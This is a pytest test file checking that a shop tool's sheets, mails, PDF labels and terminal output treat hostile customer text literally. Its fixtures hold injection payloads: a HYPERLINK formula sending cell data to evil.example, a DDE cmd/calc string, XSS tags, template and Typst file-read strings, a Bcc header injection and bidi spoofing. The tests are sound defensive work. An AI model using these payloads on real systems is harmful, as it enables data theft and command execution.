"""What customers write stands in cells, mails and labels letter by letter; nothing in it is carried out."""

from __future__ import annotations

import functools
import html
import re
import zipfile
from collections.abc import Callable
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pypdfium2
import pytest

from .proofs import assert_whole
from .shop import Shop, asks, make_shop, place

TEXTS = {
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "a template": "{{7*7}}{% for x in range(9) %}x{% endfor %}{{ shop.name }}",
    "typst": '#read("/etc/passwd") $x$ *b* @ref #include "x.typ"',
    "a header": "Anna\r\nBcc: all@example.org\r\n\r\nbody",
    "emoji": "Zoë 🎁 e\u0301",
    "right to left": "مريم \u202eexe.gpj\u202c שלום",
    "control signs": "a\u009b2Jb\u200b\u2028c\x7f",
    "very long": "W" * 40_000,
    "many lines": "\n" * 500 + "end",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], Shop]:
    """Case -> a shop whose only row says that wherever a customer may write; after one pass. To be looked at only."""
    return functools.cache(lambda case: _hostile(tmp_path_factory.mktemp("hostile"), TEXTS[case]))


def _hostile(folder: Path, text: str) -> Shop:
    shop = make_shop(folder / "shop", asks(customer="x", item="x", reason_note="x", phone="x"))
    with shop.sheet() as sheet:
        for cell in sheet[2]:
            if cell.value == "x":
                write_text(cell, text[:32_000])
    shop.sync()
    return shop


def write_text(cell: Any, text: str) -> None:
    """As text, also where it begins like a formula: what a form or an import leaves in a cell."""
    cell.value = text
    cell.data_type = "s"


def mail_of(shop: Shop) -> EmailMessage:
    (path,) = (shop.folder / "outbox").glob("*.eml")
    message = message_from_bytes(path.read_bytes(), policy=policy.default)
    assert isinstance(message, EmailMessage)
    return message


def part(message: EmailMessage, kind: str) -> str:
    body = message.get_body((kind,))
    assert body is not None
    return str(body.get_content())


@pytest.mark.parametrize("case", TEXTS)
def test_a_customers_text_does_no_harm(hostile: Callable[[str], Shop], case: str) -> None:
    shop = hostile(case)
    message = mail_of(shop)
    assert shop.column("status") == ["approved"]
    assert (message["To"], message["Bcc"]) == ("anna@example.org", None)
    assert not re.search(r"<script|<img[^>]+onerror|=HYPERLINK\(&#34;[^<]*</a>", part(message, "html"))
    assert pages_of(next((shop.folder / "labels").glob("*.pdf"))) < 4
    with zipfile.ZipFile(shop.register) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    assert_whole(shop)


@pytest.mark.parametrize("case", ["a formula", "a command", "a script", "a template", "typst", "emoji"])
def test_a_customers_text_is_shown_letter_by_letter(hostile: Callable[[str], Shop], case: str) -> None:
    shop = hostile(case)
    message = mail_of(shop)
    assert TEXTS[case] in part(message, "plain")
    assert TEXTS[case] in html.unescape(part(message, "html"))
    assert shop.cell(2, "customer") == TEXTS[case]


@pytest.mark.parametrize(("case", "stands"), [("a formula", "HYPERLINK"), ("a script", "<script>"),
                                              ("a template", "{{7*7}}"), ("typst", "#read(")])
def test_a_customers_text_stands_on_the_label(hostile: Callable[[str], Shop], case: str, stands: str) -> None:
    shop = hostile(case)
    document = pypdfium2.PdfDocument(next((shop.folder / "labels").glob("*.pdf")))
    assert stands in document[0].get_textpage().get_text_range()


def pages_of(path: Path) -> int:
    return len(pypdfium2.PdfDocument(path))


@pytest.mark.parametrize("text", [TEXTS["a formula"], TEXTS["a template"]])
def test_a_status_that_is_an_attack_is_quoted_as_text(tmp_path: Path, text: str) -> None:
    shop = make_shop(tmp_path / "shop")
    with shop.sheet() as sheet:
        write_text(sheet["C2"], text)
    done = shop.sync()
    assert "is not a status" in shop.cell(2, "messages")
    assert text[:20] in shop.cell(2, "messages")
    assert "[status-unknown]" in done.out


def test_a_terminal_gets_no_control_signs(tmp_path: Path) -> None:
    shop = make_shop(tmp_path / "shop")
    with shop.sheet() as sheet:
        write_text(sheet["I2"], "\u009b2J\u009d0;x\u009c\u202e1001")
    done, machine = shop.run("plan"), shop.run("plan", "--json")
    assert "2J" in done.out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", done.out + machine.out)
    assert "\u009b2J" in machine.json["findings"][0]["message"]


@pytest.mark.parametrize("text", ["a\r\nb", "a_x000D_b", "a_x000B_b", "a\nb"])
@pytest.mark.parametrize("column", ["order_no", "sku", "order_line", "rma_number", "status"])
def test_a_line_end_in_a_cell_does_not_keep_passes_busy(tmp_path: Path, column: str, text: str) -> None:
    shop = make_shop(tmp_path / "shop", asks("1001"))
    with shop.sheet() as sheet:
        write_text(sheet.cell(2, place(sheet, column)), text)
    first = shop.run("sync")
    again = shop.run("sync")
    assert ("engine-cell-edited" in again.out, first.code) == (False, 0)
    assert_whole(shop)
